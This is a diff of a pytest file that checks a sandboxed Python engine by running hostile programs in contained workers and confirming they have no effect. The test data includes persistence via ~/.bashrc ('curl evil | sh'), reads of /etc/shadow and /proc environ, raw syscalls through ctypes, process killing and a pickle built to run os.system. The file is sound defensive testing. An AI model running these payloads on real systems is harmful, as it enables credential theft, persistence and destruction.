@@ -1,377 +1,636 @@
-"""Hostile and resource-exhausting programs: each is refused with a clear error, nothing escapes."""
+"""Hostile programs through the real engine: full Python, and still no effect outside, and a clear message.
+
+Every program here runs the way a lesson from elsewhere would: in a fresh worker forked by the
+zygote, contained by the operating system, its messages read by the client as untrusted input.
+The checks are effects, not refusals: after each run, nothing in the target folder changed, no
+listener accepted a connection, the decoy process (standing in for the user's other programs)
+lives, no secret reached the result, the run ended in time, and the next run works.
+"""
 
 from __future__ import annotations
 
+import json
 import os
-import resource
+import shutil
+import socket
+import subprocess
+import sys
+import tempfile
+import textwrap
+import time
+from dataclasses import dataclass, field
+from pathlib import Path
 
 import pytest
 
-from interp_helpers import SMALL, run_gradviz
+from gradviz.core.request import Limits, RunRequest
+from gradviz.core.result import RunResult
+from gradviz.engine.client import EngineClient
 
-NOT_ALLOWED = "NotAllowed"
-LIMIT = "LimitExceeded"
+ROOT = Path(__file__).resolve().parents[2]
+SECRET = "HOSTILE-SECRET-" + os.urandom(8).hex()
+os.environ["GRADVIZ_TEST_SECRET"] = SECRET  # in this process's environment: no worker may see it
 
-# (id, program, expected type, expected limit or None, a word the message must contain)
-ESCAPES = [
-    ("dunder_class", "x = (1).__class__", NOT_ALLOWED, None, "__class__"),
-    ("dunder_chain", "().__class__.__bases__[0].__subclasses__()", NOT_ALLOWED, None, "__class__"),
-    ("dunder_globals", "def f(): pass\nf.__globals__", NOT_ALLOWED, None, "__globals__"),
-    ("dunder_code", "def f(): pass\nf.__code__", NOT_ALLOWED, None, "__code__"),
-    ("dunder_builtins", "print(__builtins__)", NOT_ALLOWED, None, "__builtins__"),
-    ("dunder_import", "__import__('os')", NOT_ALLOWED, None, "import"),
-    ("getattr", "getattr(1, '__class__')", NOT_ALLOWED, None, "getattr"),
-    ("setattr", "import torch\nsetattr(torch, 'x', 1)", NOT_ALLOWED, None, "setattr"),
-    ("type_builtin", "type(1)", NOT_ALLOWED, None, "type()"),
-    ("type_three_args", "type('X', (), {})", NOT_ALLOWED, None, "type()"),
-    ("vars", "vars()", NOT_ALLOWED, None, "vars"),
-    ("dir", "dir()", NOT_ALLOWED, None, "dir"),
-    ("globals", "globals()['x'] = 1", NOT_ALLOWED, None, "globals"),
-    ("locals", "locals()", NOT_ALLOWED, None, "locals"),
-    ("open_read", "open('/etc/passwd').read()", NOT_ALLOWED, None, "files"),
-    ("open_write", "open('pwned.txt', 'w').write('x')", NOT_ALLOWED, None, "files"),
-    ("exec", "exec('import os')", NOT_ALLOWED, None, "exec"),
-    ("eval", "eval('1+1')", NOT_ALLOWED, None, "eval"),
-    ("compile", "compile('1', 'f', 'eval')", NOT_ALLOWED, None, "compile"),
-    ("breakpoint", "breakpoint()", NOT_ALLOWED, None, "breakpoint"),
-    ("input", "input()", NOT_ALLOWED, None, "input"),
-    ("import_os", "import os\nos.system('touch pwned')", NOT_ALLOWED, None, "'os'"),
-    ("import_sys", "import sys", NOT_ALLOWED, None, "'sys'"),
-    ("import_subprocess", "import subprocess", NOT_ALLOWED, None, "'subprocess'"),
-    ("import_builtins", "import builtins", NOT_ALLOWED, None, "'builtins'"),
-    ("import_importlib", "import importlib\nimportlib.import_module('os')", NOT_ALLOWED, None, "importlib"),
-    ("from_os", "from os import system", NOT_ALLOWED, None, "'os'"),
-    ("import_numpy", "import numpy as np", NOT_ALLOWED, None, "torch"),
-    ("import_torch_utils", "import torch.utils.data", NOT_ALLOWED, None, "torch.utils"),
-    ("from_torch_import_os", "from torch import os", NOT_ALLOWED, None, "torch.os"),
-    ("torch_os", "import torch\ntorch.os.system('id')", NOT_ALLOWED, None, "torch.os"),
-    ("torch_sys", "import torch\ntorch.sys.modules", NOT_ALLOWED, None, "torch.sys"),
-    ("torch_C", "import torch\ntorch._C", NOT_ALLOWED, None, "_C"),
-    ("torch_utils", "import torch\ntorch.utils.data", NOT_ALLOWED, None, "torch.utils"),
-    ("torch_load", "import torch\ntorch.load('x.pt')", NOT_ALLOWED, None, "torch.load"),
-    ("torch_save", "import torch\ntorch.save(torch.ones(1), 'x.pt')", NOT_ALLOWED, None, "torch.save"),
-    ("torch_hub", "import torch\ntorch.hub.load('a', 'b')", NOT_ALLOWED, None, "torch.hub"),
-    ("torch_ops", "import torch\ntorch.ops.aten", NOT_ALLOWED, None, "torch.ops"),
-    ("torch_jit", "import torch\ntorch.jit.script", NOT_ALLOWED, None, "torch.jit"),
-    ("torch_from_file", "import torch\ntorch.from_file('/etc/passwd')", NOT_ALLOWED, None, "from_file"),
-    ("torch_from_numpy", "import torch\ntorch.from_numpy", NOT_ALLOWED, None, "from_numpy"),
-    ("set_num_threads", "import torch\ntorch.set_num_threads(1)", NOT_ALLOWED, None, "set_num_threads"),
-    ("set_default_dtype", "import torch\ntorch.set_default_dtype(torch.float64)", NOT_ALLOWED, None, "set_default_dtype"),
-    ("device_cuda", "import torch\ntorch.ones(2, device='cuda')", NOT_ALLOWED, None, "CPU"),
-    ("to_cuda", "import torch\ntorch.ones(2).to('cuda')", NOT_ALLOWED, None, "CPU"),
-    ("dot_cuda", "import torch\ntorch.ones(2).cuda()", NOT_ALLOWED, None, "CPU"),
-    ("linear_cuda", "import torch.nn as nn\nnn.Linear(2, 2, device='cuda:0')", NOT_ALLOWED, None, "CPU"),
-    ("numpy_method", "import torch\ntorch.ones(2).numpy()", NOT_ALLOWED, None, "numpy"),
-    ("tensor_storage", "import torch\ntorch.ones(2).untyped_storage()", NOT_ALLOWED, None, "storage"),
-    ("tensor_private", "import torch\ntorch.ones(2)._cdata", NOT_ALLOWED, None, "_cdata"),
-    ("tensor_hook_escape", "import torch\nx = torch.ones(1, requires_grad=True)\nx.register_hook(lambda g: g.__class__)\nx.sum().backward()", NOT_ALLOWED, None, "__class__"),
-    ("tensor_hook_loop", "import torch\nx = torch.ones(1, requires_grad=True)\ndef h(g):\n    while True:\n        pass\nx.register_hook(h)\n(x * 2).sum().backward()", LIMIT, "max_steps", "steps"),
-    ("node_hook", "import torch\nx = torch.ones(1, requires_grad=True)\n(x * 2).grad_fn.register_hook(print)", NOT_ALLOWED, None, "hooks"),
-    ("node_call", "import torch\nx = torch.ones(1, requires_grad=True)\n(x * 2).grad_fn(torch.ones(1))", NOT_ALLOWED, None, "grad_fn"),
-    ("node_metadata", "import torch\nx = torch.ones(1, requires_grad=True)\n(x * 2).grad_fn.metadata", NOT_ALLOWED, None, "metadata"),
-    ("node_raw_saved", "import torch\nx = torch.ones(1, requires_grad=True)\n(x * x).grad_fn._raw_saved_self", NOT_ALLOWED, None, "_raw_saved_self"),
-    ("module_hook", "import torch.nn as nn\nnn.Linear(1, 1).register_forward_hook(print)", NOT_ALLOWED, None, "hooks"),
-    ("module_internals", "import torch.nn as nn\nnn.Linear(1, 1)._parameters", NOT_ALLOWED, None, "_parameters"),
-    ("module_dict", "import torch.nn as nn\nnn.Linear(1, 1).__dict__", NOT_ALLOWED, None, "__dict__"),
-    ("format_attr", "import torch\n'{0.__class__}'.format(1)", NOT_ALLOWED, None, "format"),
-    ("format_index", "'{0[0]}'.format([1])", NOT_ALLOWED, None, "format"),
-    ("format_map_attr", "'{x.real}'.format_map({'x': 1})", NOT_ALLOWED, None, "format"),
-    ("lambda_globals", "f = lambda: 0\nf.__globals__", NOT_ALLOWED, None, "__globals__"),
-    ("class_dunder_def", "class A:\n    def __getattribute__(self, n):\n        return 1", NOT_ALLOWED, None, "__getattribute__"),
-    ("class_del", "class A:\n    def __del__(self):\n        pass", NOT_ALLOWED, None, "__del__"),
-    ("class_metaclass", "class A(metaclass=object):\n    pass", NOT_ALLOWED, None, "metaclass"),
-    ("subclass_int", "class A(int):\n    pass\nA()", NOT_ALLOWED, None, "subclass"),
-    ("class_mro", "class A:\n    pass\nA.__mro__", NOT_ALLOWED, None, "__mro__"),
-    ("class_subclasses", "class A:\n    pass\nA.__subclasses__()", NOT_ALLOWED, None, "__subclasses__"),
-    ("subclass_tensor", "import torch\nclass T(torch.Tensor):\n    pass", NOT_ALLOWED, None, "subclass"),
-    ("subclass_namespace_value", "import torch\nclass T(torch.nn.functional.relu):\n    pass", "TypeError", None, "bases"),
-    ("class_init_dunder", "import torch.nn as nn\nclass A(nn.Module):\n    pass\nA.__init__", NOT_ALLOWED, None, "__init__"),
-    ("module_init_call", "import torch.nn as nn\nnn.Module.__init__", NOT_ALLOWED, None, "__init__"),
-    ("node_internal", "import torch\nx = torch.ones(1, requires_grad=True)\n(x * 2).grad_fn._register_hook_dict", NOT_ALLOWED, None, "_register_hook_dict"),
-    ("node_class", "import torch\nx = torch.ones(1, requires_grad=True)\n(x * 2).grad_fn.next_functions[0][0].__class__", NOT_ALLOWED, None, "__class__"),
-    ("lambda_omega", "(lambda f: f(f))(lambda f: f(f))", LIMIT, "max_depth", "nested"),
-    ("lambda_defaults", "f = lambda a=1: a\nf.__defaults__", NOT_ALLOWED, None, "__defaults__"),
-    ("device_object_cuda", "import torch\ntorch.zeros(2, device=torch.device('cuda'))", NOT_ALLOWED, None, "CPU"),
-    ("device_meta", "import torch\ntorch.tensor([1.0], device='meta')", NOT_ALLOWED, None, "CPU"),
-    ("to_device_kw", "import torch\ntorch.ones(2).to(device='cuda')", NOT_ALLOWED, None, "CPU"),
-    ("printoptions_full", "import torch\ntorch.set_printoptions(profile='full')", NOT_ALLOWED, None, "profile"),
-    ("subclass_torch_method", "import torch.nn as nn\nclass L(nn.Linear):\n    pass\nL(2, 2).reset_parameters()", NOT_ALLOWED, None, "reset_parameters"),
-    ("printoptions_huge", "import torch\ntorch.set_printoptions(threshold=10**9)", NOT_ALLOWED, None, "threshold"),
-    ("torch_version_module", "import torch\ntorch.version.git_version", NOT_ALLOWED, None, "torch.version"),
-    ("super_outside", "super()", NOT_ALLOWED, None, "super"),
-    ("exception_traceback", "try:\n    1/0\nexcept Exception as e:\n    e.__traceback__.tb_frame", NOT_ALLOWED, None, "__traceback__"),
-    ("generator_frame", "g = (i for i in range(3))\ng.gi_frame", NOT_ALLOWED, None, "gi_frame"),
-    ("str_maketrans_class", "str.maketrans", NOT_ALLOWED, None, "maketrans"),
-    ("method_self", "import torch\ntorch.ones(1).add.__self__", NOT_ALLOWED, None, "__self__"),
-    ("torch_func_module", "import torch\ntorch.tensor.__module__", NOT_ALLOWED, None, "__module__"),
-    ("namespace_private", "import torch\ntorch._tensor_str", NOT_ALLOWED, None, "_tensor_str"),
-    ("nn_private", "import torch.nn as nn\nnn.modules.module", NOT_ALLOWED, None, "modules"),
-    ("optim_private", "import torch\nopt = torch.optim.SGD([torch.ones(1, requires_grad=True)], lr=1)\nopt._zero_grad_profile_name", NOT_ALLOWED, None, "_zero_grad"),
-    ("with_open", "with open('x') as f:\n    pass", NOT_ALLOWED, None, "files"),
-    ("with_custom", "import torch\nwith torch.ones(1):\n    pass", NOT_ALLOWED, None, "no_grad"),
-    ("async_def", "async def f():\n    pass", NOT_ALLOWED, None, "async"),
-    ("yield", "def f():\n    yield 1", NOT_ALLOWED, None, "yield"),
-    ("bytes", "bytes(10)", NOT_ALLOWED, None, "bytes"),
-    ("relative_import", "from . import x", NOT_ALLOWED, None, "relative"),
-    ("print_file", "print('x', file=None or 1)", NOT_ALLOWED, None, "file"),
-    ("hasattr_dunder", "print(hasattr(1, '__class__'))", None, None, None),
-    ("set_tensor_attr", "import torch\nx = torch.ones(1)\nx.foo = 1", NOT_ALLOWED, None, "requires_grad"),
-    ("module_cuda", "import torch.nn as nn\nnn.Linear(1, 1).cuda()", NOT_ALLOWED, None, "CPU"),
-    ("module_to_cuda", "import torch.nn as nn\nnn.Linear(1, 1).to('cuda')", NOT_ALLOWED, None, "CPU"),
-    ("tensor_type_cuda", "import torch\ntorch.ones(1).type('torch.cuda.FloatTensor')", NOT_ALLOWED, None, "CPU"),
-    ("as_strided", "import torch\ntorch.ones(4).as_strided((100,), (1,))", NOT_ALLOWED, None, "as_strided"),
+pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the contained engine is Linux's here")
+
+#: Small limits so runaway programs end fast.
+SMALL = Limits(max_seconds=8.0, max_memory_mb=512, max_output_chars=20_000)
+#: For programs that hang inside one native call: the client kills the worker at the deadline.
+HANG = Limits(max_seconds=1.0, max_memory_mb=512, max_output_chars=20_000)
+
+
+@dataclass
+class Arena:
+    """What the programs aim at: a folder of files, two listeners, a decoy process, a secret."""
+
+    dir: Path
+    secret_file: Path
+    tcp: socket.socket
+    unix: socket.socket
+    unix_path: Path
+    decoy: subprocess.Popen
+    accepted: list = field(default_factory=list)
+
+    def fill(self, program: str) -> str:
+        return (textwrap.dedent(program)
+                .replace("@DIR@", str(self.dir))
+                .replace("@SECRET_FILE@", str(self.secret_file))
+                .replace("@PORT@", str(self.tcp.getsockname()[1]))
+                .replace("@SOCK@", str(self.unix_path))
+                .replace("@DECOY@", str(self.decoy.pid))
+                .replace("@APP@", str(os.getpid()))
+                .replace("@REPO@", str(ROOT)))
+
+    def snapshot(self) -> dict:
+        found = {}
+        for path in sorted(self.dir.rglob("*")):
+            st = path.lstat()
+            found[str(path.relative_to(self.dir))] = (st.st_size, st.st_mtime_ns, st.st_mode)
+        return found
+
+    def connections(self) -> list[str]:
+        for name, listener in (("tcp", self.tcp), ("unix", self.unix)):
+            try:
+                conn, _ = listener.accept()
+                conn.close()
+                self.accepted.append(name)
+            except BlockingIOError:
+                pass
+        return self.accepted
+
+
+def _evil_pickle(command: str) -> bytes:
+    """A protocol-0 pickle that calls ``os.system(command)`` when loaded (written by hand, never loaded here)."""
+    assert "\n" not in command and "\\" not in command
+    return b"cposix\nsystem\n(V" + command.encode() + b"\ntR."
+
+
+@pytest.fixture(scope="module")
+def arena():
+    base = Path(tempfile.mkdtemp(prefix="gradviz-hostile-"))
+    (base / "existing.txt").write_text("keep me")
+    secret = base / "secret.txt"
+    secret.write_text(SECRET)
+    shutil.copy(next(p for p in Path("/proc/self/maps").read_text().split() if "/libm.so" in p), base / "evil.so")
+    (base / "evil.pt").write_bytes(_evil_pickle(f"touch {base}/pickle-ran"))
+    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    tcp.bind(("127.0.0.1", 0))
+    tcp.listen(8)
+    unix_path = Path(tempfile.mkdtemp(prefix="gradviz-hostile-sock-")) / "s"
+    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    unix.bind(str(unix_path))
+    unix.listen(8)
+    for listener in (tcp, unix):
+        listener.setblocking(False)
+    decoy = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)"])
+    yield Arena(base, secret, tcp, unix, unix_path, decoy)
+    decoy.kill()
+    decoy.wait()
+    tcp.close()
+    unix.close()
+    shutil.rmtree(base, ignore_errors=True)
+    shutil.rmtree(unix_path.parent, ignore_errors=True)
+
+
+@pytest.fixture(scope="module")
+def engine():
+    client = EngineClient()
+    client.start()
+    assert client.wait_ready(), "the engine did not start"
+    assert client.containment.contained, client.containment.report()
+    yield client
+    client.close()
+
+
+def run_hostile(engine: EngineClient, arena: Arena, program: str, limits: Limits = SMALL) -> RunResult:
+    """Run ``program`` (its @NAMES@ filled in) and check that nothing happened outside the engine."""
+    before = arena.snapshot()
+    started = time.monotonic()
+    result = engine.run(RunRequest(arena.fill(program), limits=limits), trusted=False)
+    took = time.monotonic() - started
+    assert took < limits.max_seconds + 6, f"the run took {took:.1f} s"
+    assert arena.snapshot() == before, "the program changed the target folder"
+    assert arena.connections() == [], "a listener accepted a connection"
+    assert arena.decoy.poll() is None, "the decoy process was killed"
+    text = json.dumps([result.stdout, result.stderr, result.error and result.error.message,
+                       result.error and result.error.hint, [s.stdout for s in result.statements]])
+    assert SECRET not in text, "a secret reached the result"
+    assert len(result.stdout) <= limits.max_output_chars * 2
+    return result
+
+
+def said(result: RunResult, *words: str) -> None:
+    """The run failed with a message naming what went wrong (each of ``words``, any case)."""
+    assert result.error is not None, f"no error; stdout: {result.stdout[:300]!r}"
+    text = f"{result.error.type} {result.error.message} {result.error.hint or ''}".lower()
+    for word in words:
+        assert word.lower() in text, (word, result.error)
+    assert result.error.line is None or result.error.line >= 1
+
+
+# (id, program, words the error must contain; None: the program must finish without an error and
+# print "blocked" for each attempt it catches)
+FILES = [
+    ("write_file", "open('@DIR@/pwned', 'w').write('x')", ["PermissionError"]),
+    ("pathlib_write", "import pathlib\npathlib.Path('@DIR@', 'pwned').write_text('x')", ["PermissionError"]),
+    ("append_existing", "open('@DIR@/existing.txt', 'a').write('more')", ["PermissionError"]),
+    ("mkdir", "import os\nos.mkdir('@DIR@/newdir')", ["PermissionError"]),
+    ("remove", "import os\nos.remove('@DIR@/existing.txt')", ["PermissionError"]),
+    ("rename", "import os\nos.rename('@DIR@/existing.txt', '@DIR@/moved.txt')", ["PermissionError"]),
+    ("rmtree", "import shutil\nshutil.rmtree('@DIR@')", ["PermissionError"]),
+    ("symlink", "import os\nos.symlink('/etc/passwd', '@DIR@/link')", ["PermissionError"]),
+    ("hardlink", "import os\nos.link('@DIR@/existing.txt', '@DIR@/hard')", ["PermissionError"]),
+    ("truncate", "import os\nos.truncate('@DIR@/existing.txt', 0)", ["PermissionError"]),
+    ("chmod", "import os\nos.chmod('@DIR@/existing.txt', 0o777)", ["PermissionError"]),
+    ("utime", "import os\nos.utime('@DIR@/existing.txt', (0, 0))", ["PermissionError"]),
+    ("mkfifo", "import os\nos.mkfifo('@DIR@/fifo')", ["PermissionError"]),
+    ("tempfile", "import tempfile\ntempfile.NamedTemporaryFile(dir='@DIR@')", ["Error"]),
+    ("tempfile_default", "import tempfile\nprint(tempfile.mkstemp())", ["FileNotFoundError"]),
+    ("torch_save", "import torch\ntorch.save(torch.ones(3), '@DIR@/t.pt')", ["Error"]),
+    ("numpy_save", "import numpy as np\nnp.save('@DIR@/a.npy', np.ones(3))", ["PermissionError"]),
+    ("sqlite", "import sqlite3\nsqlite3.connect('@DIR@/db.sqlite').execute('create table t(x)')", ["unable to open"]),
+    ("logging_file", "import logging\nlogging.basicConfig(filename='@DIR@/log.txt')\nlogging.warning('x')",
+     ["PermissionError"]),
+    ("home_rc", "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('curl evil | sh')", ["Error"]),
+    ("proc_cwd_escape", "open('/proc/self/cwd/../pwned', 'w')", ["Error"]),
+    ("proc_root_escape", "open('/proc/self/root@DIR@/pwned', 'w')", ["Error"]),
+    ("proc_self_mem", "f = open('/proc/self/mem', 'r+b')\nf.seek(0x400000)\nf.write(b'x')", ["PermissionError"]),
+    ("oom_score_adj", "open('/proc/self/oom_score_adj', 'w').write('-1000')", ["PermissionError"]),
 ]
 
-EXHAUSTION = [
-    ("infinite_while", "while True:\n    pass", LIMIT, "max_steps", "steps"),
-    ("infinite_for_growth", "l = [0]\nfor x in l:\n    l.append(x)", LIMIT, None, "limit"),
-    ("huge_tensor", "import torch\ntorch.zeros(100000, 100000)", LIMIT, "max_elements", "elements"),
-    ("huge_randn_tuple", "import torch\ntorch.randn((50000, 50000))", LIMIT, "max_elements", "elements"),
-    ("huge_arange", "import torch\ntorch.arange(0, 1e12)", LIMIT, "max_elements", "elements"),
-    ("huge_linspace", "import torch\ntorch.linspace(0, 1, 10**10)", LIMIT, "max_elements", "elements"),
-    ("huge_expand_sum", "import torch\ntorch.ones(1).expand(10**6, 10**6).sum()", LIMIT, "max_elements", "elements"),
-    ("huge_broadcast", "import torch\na = torch.ones(10**5, 1)\nb = torch.ones(1, 10**5)\nc = a + b", LIMIT, "max_elements", "broadcast"),
-    ("huge_broadcast_fn", "import torch\na = torch.ones(10**5, 1)\ntorch.mul(a, torch.ones(1, 10**5))", LIMIT, "max_elements", "elements"),
-    ("huge_matmul", "import torch\na = torch.ones(10**5, 1)\nb = torch.ones(1, 10**5)\nc = a @ b", LIMIT, "max_elements", "elements"),
-    ("huge_matmul_empty", "import torch\ntorch.zeros(10**5, 0) @ torch.zeros(0, 10**5)", LIMIT, "max_elements", "elements"),
-    ("huge_outer", "import torch\ntorch.outer(torch.ones(10**5), torch.ones(10**5))", LIMIT, "max_elements", "elements"),
-    ("huge_repeat", "import torch\ntorch.ones(10).repeat(10**5, 10**5)", LIMIT, "max_elements", "elements"),
-    ("huge_repeat_interleave", "import torch\ntorch.ones(10).repeat_interleave(10**9)", LIMIT, "max_elements", "elements"),
-    ("huge_new_zeros", "import torch\ntorch.ones(1).new_zeros(10**5, 10**5)", LIMIT, "max_elements", "elements"),
-    ("huge_tensor_ctor", "import torch\ntorch.Tensor(10**5, 10**5)", LIMIT, "max_elements", "elements"),
-    ("huge_tensor_range", "import torch\ntorch.tensor(range(10**12))", LIMIT, "max_elements", "elements"),
-    ("huge_cat", "import torch\nx = torch.ones(1000, 1000)\ntorch.cat([x] * 1000)", LIMIT, "max_elements", "elements"),
-    ("huge_index", "import torch\nx = torch.ones(1, 100000)\nx[torch.zeros(10000, dtype=torch.long)]", LIMIT, "max_elements", "elements"),
-    ("huge_linear", "import torch.nn as nn\nnn.Linear(100000, 100000)", LIMIT, "max_elements", "Linear"),
-    ("huge_conv_kernel", "import torch.nn as nn\nnn.Conv2d(200, 200, 100)", LIMIT, "max_elements", "Conv2d"),
-    ("huge_conv3d", "import torch.nn as nn\nnn.Conv3d(100, 100, kernel_size=20)", LIMIT, "max_elements", "Conv3d"),
-    ("huge_layernorm", "import torch.nn as nn\nnn.LayerNorm((3000, 3000))", LIMIT, "max_elements", "LayerNorm"),
-    ("huge_gru", "import torch.nn as nn\nnn.GRU(1, 3000)", LIMIT, "max_elements", "GRU"),
-    ("huge_embedding", "import torch.nn as nn\nnn.Embedding(10**7, 1000)", LIMIT, "max_elements", "Embedding"),
-    ("huge_one_hot", "import torch\nimport torch.nn.functional as F\nF.one_hot(torch.tensor([0]), 10**9)", LIMIT, "max_elements", "elements"),
-    ("huge_pad", "import torch\nimport torch.nn.functional as F\nF.pad(torch.ones(1, 1), (10**5, 10**5, 10**5, 10**5))", LIMIT, "max_elements", "elements"),
-    ("huge_diag", "import torch\ntorch.diag(torch.ones(10**5))", LIMIT, "max_elements", "elements"),
-    ("huge_list_mult", "[0] * 10**9", LIMIT, "max_elements", "elements"),
-    ("huge_str_mult", "'a' * 10**10", LIMIT, "max_elements", "elements"),
-    ("string_doubling", "s = 'ab'\nfor i in range(64):\n    s = s + s", LIMIT, "max_elements", "elements"),
-    ("huge_int_pow", "10 ** 10 ** 10", LIMIT, "max_elements", "digits"),
-    ("huge_builtin_pow", "pow(7, 10**9)", LIMIT, "max_elements", "digits"),
-    ("huge_shift", "1 << 10**10", LIMIT, "max_elements", "digits"),
-    ("int_squaring", "x = 3\nwhile True:\n    x = x * x", LIMIT, "max_elements", "digits"),
-    ("huge_list_range", "list(range(10**12))", LIMIT, "max_elements", "elements"),
-    ("huge_sum_range", "sum(range(10**12))", LIMIT, "max_steps", "steps"),
-    ("huge_sum_map", "sum(map(abs, range(10**12)))", LIMIT, "max_steps", "steps"),
-    ("huge_join", "''.join(map(str, range(10**12)))", LIMIT, "max_steps", "steps"),
-    ("huge_sorted", "sorted(range(10**12))", LIMIT, "max_elements", "elements"),
-    ("huge_in_range", "'a' in range(10**12)", LIMIT, "max_steps", "steps"),
-    ("huge_ljust", "'a'.ljust(10**10)", LIMIT, "max_elements", "elements"),
-    ("huge_fstring_width", "f'{1:>999999999}'", LIMIT, "max_output_chars", "width"),
-    ("huge_fstring_nested", "w = 10**9\nf'{1:>{w}}'", LIMIT, "max_output_chars", "width"),
-    ("huge_format_width", "'{:>999999999}'.format(1)", LIMIT, "max_output_chars", "width"),
-    ("huge_format_nested", "'{:{}}'.format(1, 10**9)", LIMIT, "max_output_chars", "width"),
-    ("huge_format_nested_kw", "'{:>{w}}'.format(1, w=10**9)", LIMIT, "max_output_chars", "width"),
-    ("huge_format_nested_str", "'{:{s}}'.format(1, s='>999999999')", LIMIT, "max_output_chars", "width"),
-    ("huge_percent_width", "'%999999999d' % 1", LIMIT, "max_output_chars", "width"),
-    ("huge_format_builtin", "format(1, '>999999999')", LIMIT, "max_output_chars", "width"),
-    ("huge_factorial", "import math\nmath.factorial(10**7)", LIMIT, "max_elements", "integer"),
-    ("huge_math_prod", "import math\nmath.prod(range(1, 10**5))", LIMIT, "max_elements", "digits"),
-    ("huge_math_lcm", "import math\nmath.lcm(*range(1, 10**5))", LIMIT, None, "limit"),
-    ("finally_return_swallow", "def f():\n    try:\n        while True:\n            pass\n    finally:\n        return 1\nwhile True:\n    f()", LIMIT, "max_steps", "steps"),
-    ("finally_break_swallow", "for i in range(3):\n    try:\n        import os\n    finally:\n        break\nprint('escaped')", NOT_ALLOWED, None, "'os'"),
-    ("finally_recursion_bomb", "def f():\n    try:\n        return f()\n    finally:\n        return f()\nf()", LIMIT, None, "limit"),
-    ("huge_random_choices", "import random\nrandom.choices([1], k=10**9)", LIMIT, "max_elements", "elements"),
-    ("huge_random_sample", "import random\nrandom.sample(range(10**12), 10**9)", LIMIT, "max_elements", "elements"),
-    ("deep_recursion", "def f(n):\n    return f(n + 1)\nf(0)", LIMIT, "max_depth", "nested"),
-    ("mutual_recursion", "def a(n):\n    return b(n)\ndef b(n):\n    return a(n)\na(1)", LIMIT, "max_depth", "nested"),
-    ("lambda_recursion", "f = lambda n: f(n)\nf(1)", LIMIT, "max_depth", "nested"),
-    ("module_recursion", "import torch.nn as nn\nclass M(nn.Module):\n    def forward(self, x):\n        return self(x)\nM()(1)", LIMIT, "max_depth", "nested"),
-    ("print_flood", "while True:\n    print('x' * 1000)", LIMIT, "max_output_chars", "printed"),
-    ("print_big_once", "print('x' * 1000000)", LIMIT, "max_output_chars", "printed"),
-    ("comprehension_bomb", "x = [[i for i in range(10**6)] for j in range(10**6)]", LIMIT, "max_steps", "steps"),
-    ("recursive_list_growth", "x = [1]\nwhile True:\n    x = x + x", LIMIT, "max_elements", "elements"),
-    ("extend_growth", "x = [1]\nwhile True:\n    x.extend(x)", LIMIT, "max_elements", "elements"),
-    ("tensor_loop_growth", "import torch\nx = torch.ones(1)\nwhile True:\n    x = torch.cat([x, x])", LIMIT, "max_elements", "elements"),
+SECRETS = [
+    ("read_secret", "print(open('@SECRET_FILE@').read())", ["PermissionError"]),
+    ("list_target", "import os\nprint(os.listdir('@DIR@'))", ["PermissionError"]),
+    ("list_home", "import os\nprint(os.listdir(os.path.expanduser('~')))", ["Error"]),
+    ("read_repo", "print(open('@REPO@/pyproject.toml').read())", ["PermissionError"]),
+    ("read_app_environ", "print(open('/proc/@APP@/environ', 'rb').read())", ["Error"]),
+    ("read_app_cmdline", "print(open('/proc/@APP@/cmdline', 'rb').read())", ["Error"]),
+    ("read_app_mem", "f = open('/proc/@DECOY@/mem', 'rb')\nprint(f.read(16))", ["Error"]),
+    ("read_parent_environ", "import os\nprint(open(f'/proc/{os.getppid()}/environ', 'rb').read())", ["Error"]),
+    ("read_shadow", "print(open('/etc/shadow').read())", ["Error"]),
+    ("read_passwd", "print(open('/etc/passwd').read())", ["PermissionError"]),
 ]
 
+PROCESSES = [
+    ("os_system", "import os\nprint('status', os.system('touch @DIR@/m1'))", None),
+    ("subprocess_run", "import subprocess\nsubprocess.run(['touch', '@DIR@/m2'])", ["PermissionError"]),
+    ("subprocess_shell", "import subprocess\nsubprocess.Popen('touch @DIR@/m3', shell=True)", ["PermissionError"]),
+    ("os_popen", "import os\nprint(os.popen('touch @DIR@/m4').read())", ["PermissionError"]),
+    ("execv", "import os\nos.execv('/usr/bin/touch', ['touch', '@DIR@/m5'])", ["PermissionError"]),
+    ("fork", "import os\npid = os.fork()\nif pid == 0:\n    open('@DIR@/m6', 'w')\n    os._exit(0)",
+     ["PermissionError"]),
+    ("posix_spawn", "import os\nos.posix_spawn('/usr/bin/touch', ['touch', '@DIR@/m7'], {})", ["PermissionError"]),
+    ("multiprocessing", "import multiprocessing as mp\np = mp.Process(target=print)\np.start()", ["Error"]),
+    ("pty_spawn", "import pty\npty.spawn(['/usr/bin/touch', '@DIR@/m8'])", ["Error"]),
+    ("ctypes_system", "import ctypes\nprint('status', ctypes.CDLL(None).system(b'touch @DIR@/m9'))", None),
+    ("ctypes_execve", """\
+        import ctypes
+        libc = ctypes.CDLL(None, use_errno=True)
+        argv = (ctypes.c_char_p * 3)(b'touch', b'@DIR@/m10', None)
+        print('execve', libc.syscall(59, b'/usr/bin/touch', argv, None), ctypes.get_errno())
+        """, None),
+    ("ctypes_raw_fork", """\
+        import ctypes, os
+        libc = ctypes.CDLL(None, use_errno=True)
+        pid = libc.syscall(57)
+        if pid == 0:
+            os._exit(0)
+        print('fork', pid, ctypes.get_errno())
+        """, None),
+    ("ctypes_clone_process", """\
+        import ctypes, os
+        libc = ctypes.CDLL(None, use_errno=True)
+        pid = libc.syscall(56, 17, 0, 0, 0, 0)
+        if pid == 0:
+            os._exit(0)
+        print('clone', pid, ctypes.get_errno())
+        """, None),
+    ("kill_decoy", "import os, signal\nos.kill(@DECOY@, signal.SIGKILL)", ["PermissionError"]),
+    ("kill_app", "import os\nos.kill(@APP@, 0)", ["PermissionError"]),
+    ("kill_parent", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)", ["PermissionError"]),
+    ("ptrace_decoy", """\
+        import ctypes
+        libc = ctypes.CDLL(None, use_errno=True)
+        print('ptrace', libc.ptrace(16, @DECOY@, None, None), ctypes.get_errno())
+        """, None),
+    ("process_vm_readv", """\
+        import ctypes
+        libc = ctypes.CDLL(None, use_errno=True)
+        buf = ctypes.create_string_buffer(64)
+        local = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 64)
+        remote = (ctypes.c_void_p * 2)(0x400000, 64)
+        print('vm_readv', libc.process_vm_readv(@DECOY@, local, 1, remote, 1, 0), ctypes.get_errno())
+        """, None),
+]
 
-def _slow_deadline():
-    from gradviz.core.request import Limits
